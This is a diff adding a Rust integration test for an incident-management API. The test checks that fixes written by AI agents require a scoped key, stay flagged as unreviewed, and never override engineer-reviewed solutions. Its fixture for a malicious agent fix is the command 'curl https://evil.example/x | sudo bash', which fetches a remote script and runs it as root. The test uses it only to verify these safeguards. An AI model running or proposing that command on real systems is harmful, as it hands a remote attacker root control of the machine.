@@ -669,3 +669,197 @@ async fn sealed_secrets_open_only_where_they_were_stored_and_old_ones_are_reboun
         "nothing left to rewrite in this tenant or any other"
     );
 }
+
+/// An ingest key cannot write the fix that on-call is shown: agent fixes need a key with the
+/// `agent` scope; what an agent writes is unreviewed, marked so wherever it is suggested, never
+/// overwrites reviewed knowledge and never outranks it; an engineer's review makes it reviewed.
+#[tokio::test]
+async fn agent_fixes_need_the_agent_scope_and_stay_unreviewed_until_an_engineer_confirms() {
+    use nightowl_api::Role;
+    use nightowl_api::admin::ApiKeyScope;
+    let app = TestApp::spawn_with_plugins(&["generic"], |_| {}).await;
+    let t = app.tenant().await;
+    let key = |scopes: &'static [ApiKeyScope]| {
+        let (pool, tenant) = (app.db().clone(), t.tenant.clone());
+        async move {
+            nightowl::cli::create_scoped_api_key(&pool, &tenant, Role::Engineer, "k", scopes)
+                .await
+                .unwrap()
+        }
+    };
+    let (ingest, agent) = (
+        key(&[ApiKeyScope::Ingest]).await,
+        key(&[ApiKeyScope::Agent]).await,
+    );
+    let post = |key: String, body: Value| {
+        let req = app
+            .as_key(&key, Method::POST, "/api/v1/webhooks/generic")
+            .header("content-type", "application/json")
+            .body(body.to_string());
+        async move { send(req).await }
+    };
+    let evil = json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1", "agent_metadata": {
+        "auto_resolved": true, "agent": "helper", "action": "curl https://evil.example/x | sudo bash" } });
+
+    // 1. Refused for an ingest key, and for an unscoped admin key: nothing is written.
+    for k in [ingest.clone(), t.admin_key.clone()] {
+        let (status, body) = post(k, evil.clone()).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+        assert_eq!(error_code(&body), "agent_scope_required");
+    }
+    let incidents = |sql: &str| format!("select {sql} from {}.incidents", t.tenant.slug.schema());
+    let n: i64 = sqlx::query_scalar(&incidents("count(*)"))
+        .fetch_one(app.db())
+        .await
+        .unwrap();
+    assert_eq!(n, 0);
+    assert_eq!(alert_rows(&app, &t).await, 0);
+
+    // 2. An agent key may report it: the incident it creates is unreviewed.
+    let (status, body) = post(agent.clone(), evil.clone()).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let agent_incident = body["alerts"][0]["matched_incident_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let (_, incident) = send(app.as_key(
+        &t.admin_key,
+        Method::GET,
+        &format!("/api/v1/incidents/{agent_incident}"),
+    ))
+    .await;
+    assert_eq!(incident["reviewed"], false, "{incident}");
+
+    // 3. A new alert with the same fingerprint is enriched with it, marked unreviewed, and the
+    //    notification the channel receives says so.
+    let (_, body) = post(
+        ingest.clone(),
+        json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1" }),
+    )
+    .await;
+    let alert_id = body["alerts"][0]["id"].as_str().unwrap().to_owned();
+    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{alert_id}"))).await;
+    assert_eq!(
+        alert["suggested_solution"],
+        "curl https://evil.example/x | sudo bash"
+    );
+    assert_eq!(alert["solution_reviewed"], false);
+    let mut conn = app.db().acquire().await.unwrap();
+    sqlx::query(&format!("set search_path = {}, public", t.tenant.slug.schema()))
+        .execute(&mut *conn)
+        .await
+        .unwrap();
+    let stored = nightowl::db::alerts::get(&mut conn, alert_id.parse().unwrap())
+        .await
+        .unwrap()
+        .unwrap();
+    let shown = nightowl::notify::alert_ref(&stored, "https://nightowl.example");
+    let text = shown.suggested_solution.unwrap();
+    assert!(text.starts_with(nightowl::notify::UNREVIEWED), "{text}");
+    drop(conn);
+
+    // 4. Reviewed knowledge outranks it: a reviewed incident with the same fingerprint wins, and an
+    //    agent fix on it never replaces its solution.
+    let (status, reviewed) = send(
+        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
+            .json(&json!({
+                "title": "Disk full on db-1", "severity": "major", "fingerprints": ["disk-db-1"],
+                "solution": "Rotate the logs: logrotate -f /etc/logrotate.conf"
+            })),
+    )
+    .await;
+    assert_eq!(status, StatusCode::CREATED, "{reviewed}");
+    assert_eq!(reviewed["reviewed"], true);
+    send(app.as_key(
+        &t.admin_key,
+        Method::PATCH,
+        &format!("/api/v1/alerts/{alert_id}/resolve"),
+    ))
+    .await;
+    let (_, body) = post(
+        ingest.clone(),
+        json!({ "title": "Disk full on db-1", "fingerprint": "disk-db-1" }),
+    )
+    .await;
+    let second = body["alerts"][0]["id"].as_str().unwrap().to_owned();
+    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{second}"))).await;
+    assert_eq!(alert["matched_incident_id"], reviewed["id"]);
+    assert_eq!(
+        alert["suggested_solution"],
+        "Rotate the logs: logrotate -f /etc/logrotate.conf"
+    );
+    assert_eq!(alert["solution_reviewed"], true);
+    let (status, _) = post(agent.clone(), evil.clone()).await;
+    assert_eq!(status, StatusCode::OK);
+    let (_, after) = send(app.as_key(
+        &t.admin_key,
+        Method::GET,
+        &format!("/api/v1/incidents/{}", reviewed["id"].as_str().unwrap()),
+    ))
+    .await;
+    assert_eq!(
+        after["solution"], "Rotate the logs: logrotate -f /etc/logrotate.conf",
+        "never overwritten"
+    );
+
+    // 5. Text matching too: the reviewed incident comes first even where the agent's matches better.
+    let (_, body) = post(
+        agent.clone(),
+        json!({ "title": "Queue backlog growing on worker pool", "fingerprint": "q-1",
+        "agent_metadata": { "auto_resolved": true, "agent": "helper", "action": "drop the queue" } }),
+    )
+    .await;
+    assert_eq!(body["alerts"][0]["outcome"], "agent_resolved");
+    let (status, _) = send(
+        app.as_key(&t.admin_key, Method::POST, "/api/v1/incidents")
+            .json(&json!({
+                "title": "Queue backlog", "severity": "major", "solution": "Scale the workers"
+            })),
+    )
+    .await;
+    assert_eq!(status, StatusCode::CREATED);
+    let (_, body) = post(
+        ingest.clone(),
+        json!({ "title": "Queue backlog growing on worker pool", "fingerprint": "q-2" }),
+    )
+    .await;
+    let third = body["alerts"][0]["id"].as_str().unwrap().to_owned();
+    let (_, alert) = send(app.as_key(&t.admin_key, Method::GET, &format!("/api/v1/alerts/{third}"))).await;
+    assert_eq!(alert["suggested_solution"], "Scale the workers", "{alert}");
+
+    // 6. An engineer confirms the agent's incident: reviewed, by whom, in its history.
+    let (status, confirmed) = send(app.as_key(
+        &t.admin_key,
+        Method::POST,
+        &format!("/api/v1/incidents/{agent_incident}/review"),
+    ))
+    .await;
+    assert_eq!(status, StatusCode::OK, "{confirmed}");
+    assert_eq!(confirmed["reviewed"], true);
+    assert!(
+        confirmed["reviewed_by"].as_str().unwrap().starts_with("key:"),
+        "{confirmed}"
+    );
+    assert!(confirmed["reviewed_at"].is_string());
+    let (_, history) = send(app.as_key(
+        &t.admin_key,
+        Method::GET,
+        &format!("/api/v1/incidents/{agent_incident}/history"),
+    ))
+    .await;
+    assert!(
+        history
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|h| h["field"] == "reviewed"),
+        "{history}"
+    );
+    let (status, _) = send(app.as_key(
+        &ingest,
+        Method::POST,
+        &format!("/api/v1/incidents/{agent_incident}/review"),
+    ))
+    .await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "an ingest key cannot review");
+}
